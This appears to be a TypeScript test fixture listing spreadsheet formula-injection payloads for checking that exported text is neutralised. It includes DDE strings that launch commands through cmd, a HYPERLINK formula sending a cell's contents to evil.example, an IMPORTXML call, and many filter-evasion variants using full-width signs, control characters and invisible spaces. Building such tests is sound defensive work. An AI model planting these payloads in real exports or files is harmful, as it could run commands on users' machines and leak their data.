/** Texts that a spreadsheet would take for a formula, a command or a line break, were they let through. */
const COMMANDS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"点此")',
  '1+1',
  'SUM(1,1)*cmd',
] as const;
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'] as const;

export const PAYLOADS: readonly string[] = [
  ...SIGNS.flatMap((sign) => COMMANDS.map((command) => sign + command)),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(1)',
  '\t支出',
  ' =1+1',
  '\u3000＝1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u00a0-1+cmd',
  '\u0001=1+1',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(1)',
  '−1+1',
  '=_x003D_1',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '-2+3+cmd|\' /C calc\'!A0","=1+1',
  '=IMPORTXML("http://evil.example","//a")',
  '@"支出\n=1+1"',
];
